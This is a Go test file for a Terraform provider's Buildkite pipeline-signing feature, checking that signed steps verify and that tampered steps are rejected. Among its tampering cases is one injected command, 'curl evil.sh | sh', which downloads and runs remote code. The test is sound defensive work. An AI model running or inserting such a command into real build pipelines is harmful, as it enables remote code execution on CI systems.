package pipelines_test

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/buildkite/go-pipeline"
	"github.com/buildkite/go-pipeline/jwkutil"
	"github.com/buildkite/go-pipeline/signature"
	"github.com/hashicorp/terraform-plugin-testing/helper/resource"
	"github.com/lestrrat-go/jwx/v3/jwa"
	"github.com/lestrrat-go/jwx/v3/jwk"
	"gopkg.in/yaml.v3"

	"github.com/ci-rest/terraform-provider-buildkite/internal/provider/acctest"
	"github.com/ci-rest/terraform-provider-buildkite/internal/provider/pipelines"
)

// signingKeys returns a new EdDSA key pair with key ID kid: the private key and the public key set the
// agent verifies with.
func signingKeys(t *testing.T, kid string) (jwk.Key, jwk.Set) {
	t.Helper()
	private, public, err := jwkutil.NewKeyPair(kid, jwa.EdDSA())
	if err != nil {
		t.Fatal(err)
	}
	key, ok := private.Key(0)
	if !ok {
		t.Fatal("the generated set holds no key")
	}
	return key, public
}

// richPipeline has what a signature covers: plugins in short and full form, step and pipeline env, a
// matrix with adjustments, secrets, a group, and steps that are not signed.
const richPipeline = `env:
  DEPLOY_ENV: production
  REGION: eu-west-1
steps:
  - label: ":hammer: Build"
    key: build
    command:
      - make deps
      - make build
    env:
      REGION: us-east-1
      GOFLAGS: -mod=readonly
    plugins:
      - docker#v5.12.0:
          image: golang:1.26
          environment: [GOFLAGS]
      - acme/cache:
          paths: [vendor]
      - ./plugins/local
    secrets:
      DEPLOY_KEY: deploy_key
      NPM_TOKEN: npm_token
  - wait
  - group: Tests
    steps:
      - label: "Test {{matrix.os}} {{matrix.arch}}"
        command: make test
        matrix:
          setup:
            os: [linux, darwin]
            arch: [amd64, arm64]
          adjustments:
            - with: {os: darwin, arch: amd64}
              skip: true
      - command: make lint
        matrix: [one, two]
  - block: Release?
  - trigger: deploy-pipeline
`

// verifySigned parses a signed pipeline and verifies every command step as the agent does, with the
// pipeline's env as the job's; it returns the steps it verified, or the first failure.
func verifySigned(t *testing.T, signed, repository string, keys jwk.Set) (int, error) {
	t.Helper()
	p, err := pipeline.Parse(strings.NewReader(signed))
	if err != nil {
		t.Fatalf("the signed pipeline does not parse: %v\n%s", err, signed)
	}
	var env map[string]string
	if p.Env != nil {
		env = p.Env.ToMap()
	}
	var verify func(steps pipeline.Steps) (int, error)
	verify = func(steps pipeline.Steps) (int, error) {
		n := 0
		for _, s := range steps {
			switch s := s.(type) {
			case *pipeline.CommandStep:
				if err := signature.VerifyStep(context.Background(), s, keys, repository, signature.WithEnv(env)); err != nil {
					return n, fmt.Errorf("step %q: %w", s.Command, err)
				}
				n++
			case *pipeline.GroupStep:
				m, err := verify(s.Steps)
				if n += m; err != nil {
					return n, err
				}
			}
		}
		return n, nil
	}
	return verify(p.Steps)
}

func TestSignPipeline_verifiedAsTheAgentDoes(t *testing.T) {
	t.Parallel()
	const repo = "git@github.com:acme/app.git"
	key, public := signingKeys(t, "ci-key")
	signed, err := pipelines.SignPipelineForTest(context.Background(), richPipeline, repo, key)
	if err != nil {
		t.Fatal(err)
	}
	if n, err := verifySigned(t, signed, repo, public); err != nil || n != 3 {
		t.Fatalf("verified %d command steps (want 3): %v\n%s", n, err, signed)
	}
	for _, want := range []string{"signature:", "algorithm: EdDSA", "signed_fields:", "env::DEPLOY_ENV", "github.com/acme/cache-buildkite-plugin"} {
		if !strings.Contains(signed, want) {
			t.Errorf("the signed pipeline lacks %q:\n%s", want, signed)
		}
	}
	// EdDSA: the same input and key sign the same way, so the pipeline never shows a change.
	again, err := pipelines.SignPipelineForTest(context.Background(), richPipeline, repo, key)
	if err != nil || again != signed {
		t.Errorf("signing twice differs (err %v)", err)
	}

	// What the agent must refuse: every part a signature covers, changed after signing.
	for name, tamper := range map[string]func(string) string{
		"command":      func(s string) string { return strings.Replace(s, "make build", "make build && curl evil.sh | sh", 1) },
		"plugin":       func(s string) string { return strings.Replace(s, "golang:1.26", "golang:evil", 1) },
		"step env":     func(s string) string { return strings.Replace(s, "-mod=readonly", "-mod=mod", 1) },
		"pipeline env": func(s string) string { return strings.Replace(s, "DEPLOY_ENV: production", "DEPLOY_ENV: staging", 1) },
		"matrix":       func(s string) string { return strings.Replace(s, "- darwin", "- windows", 1) },
		"secret":       func(s string) string { return strings.Replace(s, "deploy_key", "other_key", 1) },
	} {
		changed := tamper(signed)
		if changed == signed {
			t.Fatalf("%s: the tampering changed nothing", name)
		}
		if _, err := verifySigned(t, changed, repo, public); err == nil {
			t.Errorf("%s: a tampered step verified", name)
		}
	}
	// Another repository, or another key, does not verify.
	if _, err := verifySigned(t, signed, "git@github.com:acme/other.git", public); err == nil {
		t.Error("a step signed for one repository verified for another")
	}
	_, otherPublic := signingKeys(t, "ci-key")
	if _, err := verifySigned(t, signed, repo, otherPublic); err == nil {
		t.Error("a step verified with another key")
	}
}

// TestSignPipeline_checkout: the pipeline's checkout settings are copied into each command step and signed.
func TestSignPipeline_checkout(t *testing.T) {
	t.Parallel()
	key, public := signingKeys(t, "k")
	signed, err := pipelines.SignPipelineForTest(context.Background(), "checkout:\n  depth: 1\nsteps:\n  - command: make\n  - group: g\n    steps:\n      - command: make test\n        checkout:\n          depth: 5\n", "https://github.com/acme/app", key)
	if err != nil {
		t.Fatal(err)
	}
	if n, err := verifySigned(t, signed, "https://github.com/acme/app", public); err != nil || n != 2 {
		t.Fatalf("verified %d (want 2): %v\n%s", n, err, signed)
	}
	if strings.Count(signed, "- checkout") != 2 || !strings.Contains(signed, "depth: 5") {
		t.Errorf("checkout not signed into both steps, the step's own value winning:\n%s", signed)
	}
}

func TestEnvironmentReferences(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"command: echo $NAME":                  "$NAME",
		"command: echo ${NAME}":                "$NAME",
		"command: echo ${NAME:-x}":             "$NAME",
		"command: echo $$ESCAPED":              "$$ESCAPED",
		`command: echo \$ESCAPED`:              "$$ESCAPED",
		"command: echo $1 $(date) costs 5$":    "",
		"if: 'pipeline.slug !~ /^.+-main\\z/'": "",
	} {
		got, err := pipelines.EnvironmentReferencesForTest(text)
		if err != nil {
			t.Errorf("%q: %v", text, err)
			continue
		}
		if strings.Join(got, ",") != want {
			t.Errorf("%q: %v, want %q", text, got, want)
		}
	}
}

// expectedSignature signs steps directly with go-pipeline, as the agent's `tool sign` does, for the data
// source's output to be compared with.
func expectedSignature(t *testing.T, steps, repo string, key jwk.Key) string {
	t.Helper()
	p, err := pipeline.Parse(strings.NewReader(steps))
	if err != nil {
		t.Fatal(err)
	}
	if err := signature.SignSteps(context.Background(), p.Steps, key, repo, signature.WithEnv(p.Env.ToMap())); err != nil {
		t.Fatal(err)
	}
	out, err := yaml.Marshal(p)
	if err != nil {
		t.Fatal(err)
	}
	return string(out)
}

func TestAccSignedPipelineStepsDataSource_basic(t *testing.T) {
	t.Parallel()
	e := acctest.NewTestEnv(t)
	const addr = "data.buildkite_signed_pipeline_steps.test"
	const repo = "https://github.com/acme/app.git"
	steps := "steps:\n  - label: \":pipeline:\"\n    command: buildkite-agent pipeline upload\n    env:\n      LOCAL: bar\nenv:\n  GLOBAL: foo\n"
	key, public := signingKeys(t, "ci-key")
	single, err := json.Marshal(key)
	if err != nil {
		t.Fatal(err)
	}
	other, _ := signingKeys(t, "other-key")
	set := jwk.NewSet()
	if err := set.AddKey(key); err != nil {
		t.Fatal(err)
	}
	if err := set.AddKey(other); err != nil {
		t.Fatal(err)
	}
	both, err := json.Marshal(set)
	if err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "jwks.json")
	if err := os.WriteFile(file, both, 0o600); err != nil {
		t.Fatal(err)
	}
	want := expectedSignature(t, steps, repo, key)
	ds := func(lines ...string) string {
		return e.Config(fmt.Sprintf("data \"buildkite_signed_pipeline_steps\" \"test\" {\n  repository = %q\n  unsigned_steps = %q\n  %s\n}\n",
			repo, steps, strings.Join(lines, "\n  ")))
	}
	verified := func(s string) error {
		_, err := verifySigned(t, s, repo, public)
		return err
	}
	resource.Test(t, resource.TestCase{
		ProtoV6ProviderFactories: e.Factories(),
		Steps: []resource.TestStep{
			{
				// A single key, as JSON.
				Config: ds(fmt.Sprintf("jwks = %q", single)),
				Check: resource.ComposeAggregateTestCheckFunc(
					resource.TestCheckResourceAttr(addr, "steps", want),
					resource.TestCheckResourceAttrWith(addr, "steps", verified),
				),
			},
			{
				// A set in a file, the key picked by its ID.
				Config: ds(fmt.Sprintf("jwks_file = %q", file), `jwks_key_id = "ci-key"`),
				Check:  resource.TestCheckResourceAttr(addr, "steps", want),
			},
			{Config: ds(fmt.Sprintf("jwks_file = %q", file)), ExpectError: regexp.MustCompile(`holds 2 keys and jwks_key_id is not set`)},
			{Config: ds(fmt.Sprintf("jwks_file = %q", file), `jwks_key_id = "nope"`), ExpectError: regexp.MustCompile(`Cannot Find Key`)},
		},
	})
}

func TestAccSignedPipelineStepsDataSource_badInput(t *testing.T) {
	t.Parallel()
	e := acctest.NewTestEnv(t)
	key, _ := signingKeys(t, "ci-key")
	single, err := json.Marshal(key)
	if err != nil {
		t.Fatal(err)
	}
	ds := func(steps string, lines ...string) string {
		return e.Config(fmt.Sprintf("data \"buildkite_signed_pipeline_steps\" \"test\" {\n  repository = \"r\"\n  unsigned_steps = %q\n  %s\n}\n",
			steps, strings.Join(lines, "\n  ")))
	}
	jwks := fmt.Sprintf("jwks = %q", single)
	resource.Test(t, resource.TestCase{
		ProtoV6ProviderFactories: e.Factories(),
		Steps: []resource.TestStep{
			{Config: ds("steps:\n  - command: echo \"$INTERPOLATE and $$ESCAPED\"\n", jwks), ExpectError: regexp.MustCompile(`Environment interpolations are not allowed[\s\S]*\$INTERPOLATE,\s+\$\$ESCAPED`)},
			{Config: ds("steps:\n  - command: make\n    if: 'pipeline.slug !~ /^.+-main\\z/'\n", jwks), Check: resource.TestCheckResourceAttrSet("data.buildkite_signed_pipeline_steps.test", "steps")},
			{Config: ds("steps:\n  - command: make\n"), ExpectError: regexp.MustCompile(`Error: Invalid Attribute Combination`)},
			{Config: ds("steps:\n  - command: make\n", jwks, `jwks_file = "/tmp/x"`), ExpectError: regexp.MustCompile(`Error: Invalid Attribute Combination`)},
			{Config: ds("steps:\n  - command: make\n", `jwks = "{not json"`), ExpectError: regexp.MustCompile(`Unable to parse JWKS`)},
			{Config: ds("steps:\n  - command: make\n", `jwks_file = "/nonexistent/jwks.json"`), ExpectError: regexp.MustCompile(`Unable to Read JWKS File`)},
			{Config: ds("steps:\n  - command: make\n", `jwks_file = ""`), ExpectError: regexp.MustCompile(`at least 1`)},
			{Config: ds("steps:\n  - unknownthing: 1\n", jwks), ExpectError: regexp.MustCompile(`Failed to Sign Pipeline`)},
			{Config: ds("steps: [", jwks), ExpectError: regexp.MustCompile(`Parsing the pipeline`)},
		},
	})
}
